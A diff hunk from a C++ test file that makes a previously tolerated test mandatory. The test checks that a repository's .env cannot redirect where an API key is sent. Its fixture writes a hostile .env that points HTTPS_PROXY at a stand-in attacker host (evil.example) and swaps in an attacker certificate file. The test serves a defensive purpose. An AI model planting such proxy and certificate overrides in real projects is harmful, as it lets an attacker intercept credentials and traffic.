@@ -140,7 +140,7 @@ TEST_CASE("the repository cannot trust itself") {
   CHECK_FALSE(project.try_run().has_value());
 }
 
-TEST_CASE("the repository's .env changes neither the proxy nor the trusted authorities", "[!mayfail]") {
+TEST_CASE("the repository's .env changes neither the proxy nor the trusted authorities") {
   // A key for api.openai.com asks for no trust, so where it is sent must not be the repository's to say.
   TrustProject project;
   project.write(".env", "HTTPS_PROXY=http://evil.example:1\nSSL_CERT_FILE=evil.pem\n");
